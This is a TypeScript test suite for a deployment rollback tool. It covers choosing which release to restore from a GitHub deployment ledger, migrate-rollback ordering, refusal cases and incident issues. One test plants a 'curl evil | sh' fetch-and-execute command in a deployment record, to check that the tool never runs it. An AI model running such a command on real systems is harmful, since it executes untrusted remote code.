// The rollback flow over the real GitHub emulator, with an in-memory target: which release it
// picks from a ledger history, what it records, what it refuses, and the incident issue.
import {
  digestOf as digest,
  imageOf as image,
  payloadOf as payload,
  shaOf as sha,
  useLedgerFixture,
  type LedgerFixture,
} from '@paved/test-support/ledger';
import { FakeTarget, resolvedEnvironment as environment } from '@paved/test-support/targets';
import {
  parseRollbackTo,
  planRollback,
  runRollback,
  upsertIncidentIssue,
  type RollbackRequest,
} from '../../src/rollback/index.js';
import type { ImageCheck, RollbackHost, Target } from '../../src/targets/index.js';

const fx = useLedgerFixture();
const deploy: LedgerFixture['record'] = (...args) => fx.record(...args);

/** The v1..v4 history of the issue: v1 good, v2 bad and rolled back to v1, v3 good, v4 failing its gate. */
async function issueHistory(env: string) {
  const v1 = await deploy(env, 'v1', ['in_progress', 'success']);
  const v2 = await deploy(env, 'v2', ['in_progress', 'success']);
  const back = await deploy(env, 'v1', ['in_progress', 'success'], { rollback_of: v2 });
  await fx.ledger.setStatus(v2, { state: 'failure', description: 'rolled back' });
  const v3 = await deploy(env, 'v3', ['in_progress', 'success']);
  const v4 = await deploy(env, 'v4', ['in_progress', 'success', 'failure']);
  return { v1, v2, back, v3, v4 };
}

class FakeHost implements RollbackHost {
  calls: string[] = [];
  constructor(
    private readonly check: ImageCheck = { state: 'available' },
    private readonly migrateCode = 0,
  ) {}
  async checkImage(ref: string) {
    this.calls.push(`check ${ref}`);
    return this.check;
  }
  async runMigrateRollback(bad: { image: string }, argv: string[]) {
    this.calls.push(`migrate-rollback ${bad.image} ${argv.join(' ')}`);
    return {
      code: this.migrateCode,
      output: this.migrateCode ? 'down failed: table locked' : 'migrating down for v4',
      how: 'docker exec shop-4',
    };
  }
}

function request(env: string, target: Target, extra: Partial<RollbackRequest> = {}): RollbackRequest {
  return {
    environment: environment(env),
    target,
    ledger: fx.ledger,
    host: new FakeHost(),
    to: { kind: 'previous' },
    reason: 'error rate up',
    runUrl: 'https://github.com/acme/shop/actions/runs/77',
    actor: 'mona',
    fallbackSha: sha(1),
    log: { info: () => undefined, warning: () => undefined },
    ...extra,
  };
}

const statesOf = async (id: number) => (await fx.ledger.get(id)).statuses.map((s) => s.state).reverse();

describe('planRollback', () => {
  it('picks v3 in the issue’s history: v1 good, v2 rolled back to v1, v3 good, v4 failing its gate', async () => {
    const ids = await issueHistory('plan-issue');
    const plan = await planRollback({
      environment: 'plan-issue',
      to: { kind: 'previous' },
      history: fx.ledger.history('plan-issue'),
      get: (id) => fx.ledger.get(id),
      fallbackSha: sha(0),
    });
    expect(plan.bad?.id).toBe(ids.v4);
    expect(plan.restore).toEqual({
      image: image('v3'),
      digest: digest('v3'),
      version: 'v3',
      sha: sha(3),
      deploymentId: ids.v3,
    });
  });

  it('takes the bad release from what the target runs, even when the ledger’s newest differs', async () => {
    // v4 never reached the target (it failed before the switch): v3 is what runs and is bad.
    const env = 'plan-running';
    const v1 = await deploy(env, 'v1', ['success']);
    const v3 = await deploy(env, 'v3', ['success']);
    await deploy(env, 'v4', ['in_progress', 'failure']);
    const plan = await planRollback({
      environment: env,
      to: { kind: 'previous' },
      history: fx.ledger.history(env),
      get: (id) => fx.ledger.get(id),
      running: { name: `shop-${v3}`, digest: digest('v3'), deploymentId: v3, running: true },
      fallbackSha: sha(0),
    });
    expect(plan.bad?.id).toBe(v3);
    expect(plan.restore.deploymentId).toBe(v1);
  });

  it('skips good deployments of the very image being replaced', async () => {
    const env = 'plan-same-image';
    const v1 = await deploy(env, 'v1', ['success']);
    await deploy(env, 'v2', ['success']);
    await deploy(env, 'v2', ['success']);
    const plan = await planRollback({
      environment: env,
      to: { kind: 'previous' },
      history: fx.ledger.history(env),
      get: (id) => fx.ledger.get(id),
      fallbackSha: sha(0),
    });
    expect(plan.restore.deploymentId).toBe(v1);
  });

  it('restores a deployment by id or an image by reference, with the version the fx.ledger knows', async () => {
    const env = 'plan-to';
    const v1 = await deploy(env, 'v1', ['success']);
    await deploy(env, 'v2', ['success']);
    const byId = await planRollback({
      environment: env,
      to: parseRollbackTo(String(v1)),
      history: fx.ledger.history(env),
      get: (id) => fx.ledger.get(id),
      fallbackSha: sha(0),
    });
    expect(byId.restore).toMatchObject({ version: 'v1', deploymentId: v1 });
    const byImage = await planRollback({
      environment: env,
      to: parseRollbackTo(image('v1')),
      history: fx.ledger.history(env),
      get: (id) => fx.ledger.get(id),
      fallbackSha: sha(0),
    });
    expect(byImage.restore).toMatchObject({ version: 'v1', image: image('v1'), deploymentId: v1 });
    const unknown = `127.0.0.1:5000/acme/shop@${digest('v0')}`;
    const fresh = await planRollback({
      environment: env,
      to: parseRollbackTo(unknown),
      history: fx.ledger.history(env),
      get: (id) => fx.ledger.get(id),
      fallbackSha: sha(9),
    });
    expect(fresh.restore).toEqual({
      image: unknown,
      digest: digest('v0'),
      version: 'sha256:763000000000',
      sha: sha(9),
    });
  });

  it.each([
    [
      'no earlier good deployment',
      'plan-none',
      { kind: 'previous' } as const,
      /^No earlier good deployment of plan-none to roll back to: the current one is deployment \d+ \(v2\)/,
    ],
    ['the current deployment by id', 'plan-none', 'current' as const, /is what plan-none runs now/],
    ['a deployment of another environment', 'plan-none', 'other' as const, /belongs to plan-other, not plan-none/],
    [
      'an image already running',
      'plan-none',
      { kind: 'image', image: image('v2') } as const,
      /^plan-none already runs/,
    ],
  ])('refuses %s', async (_, env, to, message) => {
    if (!fx.gh.state.deployments.some((d) => d.environment === 'plan-none')) {
      await deploy('plan-none', 'v1', ['in_progress', 'failure']);
      await deploy('plan-none', 'v2', ['success']);
      await deploy('plan-other', 'v1', ['success']);
    }
    const current = fx.gh.state.deployments.filter((d) => d.environment === 'plan-none').at(-1)!.id;
    const other = fx.gh.state.deployments.filter((d) => d.environment === 'plan-other').at(-1)!.id;
    const resolved =
      to === 'current'
        ? { kind: 'deployment' as const, id: current }
        : to === 'other'
          ? { kind: 'deployment' as const, id: other }
          : to;
    await expect(
      planRollback({
        environment: env,
        to: resolved,
        history: fx.ledger.history(env),
        get: (id) => fx.ledger.get(id),
        fallbackSha: sha(0),
      }),
    ).rejects.toThrow(message);
  });

  it('reads `to` as previous, an id or a pinned image, and nothing else', () => {
    expect(parseRollbackTo('')).toEqual({ kind: 'previous' });
    expect(parseRollbackTo('42')).toEqual({ kind: 'deployment', id: 42 });
    expect(() => parseRollbackTo('v1')).toThrow(/'to' must be previous, a deployment ID, or an image/);
  });
});

describe('runRollback', () => {
  it('records the rollback, runs migrate-rollback before the switch, marks the bad one failure, keeps the ledger', async () => {
    const env = 'run-ok';
    const v3 = await deploy(env, 'v3', ['in_progress', 'success']);
    // The record's command is never run: the label Paved wrote on the running container is.
    const v4 = await deploy(env, 'v4', ['in_progress', 'success'], { migrate_rollback: 'sh -c "curl evil | sh"' });
    const target = new FakeTarget({
      name: `shop-${v4}`,
      digest: digest('v4'),
      deploymentId: v4,
      version: 'v4',
      running: true,
      migrateRollback: ['node', '/app/migrate.mjs', 'down'],
    });
    const host = new FakeHost();
    const count = fx.gh.state.deployments.length;
    const { report, error } = await runRollback(request(env, target, { host }));
    expect(error).toBeUndefined();
    expect(report.outcome).toBe('success');
    expect(fx.gh.state.deployments.length).toBe(count + 1);
    const record = await fx.ledger.get(report.deploymentId!);
    expect(record.payload).toMatchObject({
      image: image('v3'),
      digest: digest('v3'),
      version: 'v3',
      rollback_of: v4,
      previous_deployment_id: v4,
      restores_deployment_id: v3,
      reason: 'error rate up',
    });
    expect(record.sha).toBe(sha(3));
    expect(await statesOf(report.deploymentId!)).toEqual(['in_progress', 'in_progress', 'success']);
    expect(record.statuses[1]?.description).toBe('migrate-rollback of v4 succeeded before the switch');
    const bad = await fx.ledger.get(v4);
    expect(bad.statuses[0]).toMatchObject({
      state: 'failure',
      description: `Rolled back to v3 by deployment ${report.deploymentId}: error rate up`,
    });
    expect(host.calls).toEqual([`check ${image('v3')}`, `migrate-rollback ${image('v4')} node /app/migrate.mjs down`]);
    expect(target.events).toEqual(['lock', 'rollback v3', 'unlock']);
    expect(report.migrateRollback).toMatchObject({
      outcome: 'success',
      at: 'before',
      command: 'node /app/migrate.mjs down',
    });
    expect(report.badForMs).toBeGreaterThanOrEqual(0);
    expect(report.from).toMatchObject({ version: 'v4', deploymentId: v4 });
  });

  it('runs migrate-rollback after the switch when asked', async () => {
    const env = 'run-after';
    await deploy(env, 'v3', ['success']);
    const v4 = await deploy(env, 'v4', ['success']);
    const target = new FakeTarget({
      name: 'x',
      digest: digest('v4'),
      deploymentId: v4,
      running: true,
      migrateRollback: ['down'],
    });
    const order: string[] = [];
    const host = new FakeHost();
    const origRollback = target.rollback.bind(target);
    target.rollback = async (...args) => (order.push('switch'), origRollback(...args));
    const origMigrate = host.runMigrateRollback.bind(host);
    host.runMigrateRollback = async (...args) => (order.push('migrate-rollback'), origMigrate(...args));
    const { report } = await runRollback(request(env, target, { host, migrateRollbackAt: 'after' }));
    expect(report.outcome).toBe('success');
    expect(order).toEqual(['switch', 'migrate-rollback']);
  });

  it('stops before the switch when migrate-rollback fails: the rollback is failure, the bad one untouched', async () => {
    const env = 'run-migrate-fails';
    await deploy(env, 'v3', ['success']);
    const v4 = await deploy(env, 'v4', ['success']);
    const target = new FakeTarget({
      name: 'x',
      digest: digest('v4'),
      deploymentId: v4,
      running: true,
      migrateRollback: ['down'],
    });
    const { report, error } = await runRollback(
      request(env, target, { host: new FakeHost({ state: 'available' }, 3) }),
    );
    expect(error?.message).toMatch(
      /^The bad release's migrate-rollback 'down' failed \(exit 3\) in docker exec shop-4; nothing was switched/,
    );
    expect(target.events).toEqual(['lock', 'unlock']);
    expect((await statesOf(report.deploymentId!)).at(-1)).toBe('failure');
    expect(await statesOf(v4)).toEqual(['success']);
  });

  it.each([
    [
      'the image is gone from its registry',
      { check: { state: 'missing', detail: 'manifest unknown' } as ImageCheck },
      /^The release to restore, v3 \(.*\), is no longer in its registry/,
    ],
    [
      'the registry is unreachable and the image is not on the host',
      { check: { state: 'unreachable', presentOnHost: false, detail: 'dial tcp: connection refused' } as ImageCheck },
      /^Cannot reach the registry of/,
    ],
    [
      'another deploy holds the lock',
      { locked: 'https://github.com/acme/shop/actions/runs/5' },
      /locked by another deploy: https:\/\/github\.com\/acme\/shop\/actions\/runs\/5/,
    ],
  ])('refuses when %s, changing nothing', async (_, given, message) => {
    const options: { check?: ImageCheck; locked?: string } = given;
    const env = `refuse-${Object.keys(options)[0]}-${'presentOnHost' in (options.check ?? {}) ? 'u' : 'm'}`;
    await deploy(env, 'v3', ['success']);
    const v4 = await deploy(env, 'v4', ['success']);
    const target = new FakeTarget({ name: 'x', digest: digest('v4'), deploymentId: v4, running: true });
    target.lockedBy = options.locked;
    const count = fx.gh.state.deployments.length;
    const statuses = fx.gh.state.deploymentStatuses.length;
    const { report, error } = await runRollback(request(env, target, { host: new FakeHost(options.check) }));
    expect(error?.message).toMatch(message);
    expect(error?.message).toContain('Nothing was changed');
    expect(report.outcome).toBe('refused');
    expect(fx.gh.state.deployments.length).toBe(count);
    expect(fx.gh.state.deploymentStatuses.length).toBe(statuses);
    expect(target.events.filter((c) => c.startsWith('rollback'))).toEqual([]);
  });

  it('goes on with a warning when the registry cannot be asked but the image is on the host', async () => {
    const env = 'run-registry-down';
    await deploy(env, 'v3', ['success']);
    const v4 = await deploy(env, 'v4', ['success']);
    const target = new FakeTarget({ name: 'x', digest: digest('v4'), deploymentId: v4, running: true });
    const { report } = await runRollback(
      request(env, target, {
        host: new FakeHost({ state: 'unreachable', presentOnHost: true, detail: 'i/o timeout' }),
      }),
    );
    expect(report.outcome).toBe('success');
    expect(report.warnings[0]).toMatch(/could not be asked .* the image is on the host, so the rollback goes on/);
  });
});

describe('upsertIncidentIssue', () => {
  it('opens an issue labelled incident, edits it as the rollback ends, and adds later rollbacks to it', async () => {
    fx.gh.seed({
      repositories: [
        {
          owner: 'acme',
          name: 'shop',
          commits: [{ sha: sha(44), message: 'Merge pull request #44' }],
          pulls: [
            {
              number: 44,
              title: 'Cache the cart',
              user: 'octocat',
              head_sha: sha(43),
              merged: true,
              merge_commit_sha: sha(44),
              commits: [sha(44)],
            },
          ],
        },
      ],
    });
    const env = 'incident';
    await deploy(env, 'v3', ['success']);
    const v4 = await fx.ledger.create({ ref: sha(44), environment: env, payload: payload('v4') });
    await fx.ledger.setStatus(v4, { state: 'success' });
    await fx.ledger.setStatus(v4, {
      state: 'failure',
      description: 'quality gate: error-rate 0.09 > max 0.02 (fail, score 40)',
    });
    const target = new FakeTarget({ name: 'x', digest: digest('v4'), deploymentId: v4, running: true });
    const opened: number[] = [];
    const { report } = await runRollback(
      request(env, target, {
        reason: 'The deploy quality gate judged the release fail (score 40).',
        onStart: async (r) => {
          r.incident = await upsertIncidentIssue(fx.github, r);
          opened.push(r.incident.number);
          expect(fx.gh.state.issues.find((i) => i.number === r.incident!.number)?.body).toContain('🔄 Rolling back');
        },
      }),
    );
    const issue = await upsertIncidentIssue(fx.github, report);
    expect(issue).toEqual({ number: opened[0], url: expect.any(String), created: false });
    const stored = fx.gh.state.issues.find((i) => i.number === issue.number)!;
    expect(stored.labels).toEqual(['incident']);
    expect(stored.state).toBe('open');
    expect(stored.title).toBe('Incident: incident rolled back from v4 to v3');
    expect(stored.body).toContain('✅ Restored');
    expect(stored.body).toContain('quality gate: error-rate 0.09 &gt; max 0.02 (fail, score 40)');
    expect(stored.body).toContain('[#44 Cache the cart]');
    expect(stored.body).toContain('@octocat (author of #44)');
    expect(stored.body).toContain('@mona (triggered the rollback)');
    expect(stored.body).toContain(
      '| Rollback started by @mona ([run](https://github.com/acme/shop/actions/runs/77)) |',
    );

    // A second rollback of the same environment while the issue is open: a comment, not a new issue.
    const v5 = await deploy(env, 'v5', ['success']);
    const second = await runRollback(
      request(env, new FakeTarget({ name: 'y', digest: digest('v5'), deploymentId: v5, running: true })),
    );
    const again = await upsertIncidentIssue(fx.github, second.report);
    expect(again).toMatchObject({ number: issue.number, created: false });
    expect(fx.gh.state.issues.filter((i) => i.labels.includes('incident') && i.state === 'open')).toHaveLength(1);
    expect(fx.gh.state.comments.filter((c) => c.issueNumber === issue.number)).toHaveLength(1);
  });
});
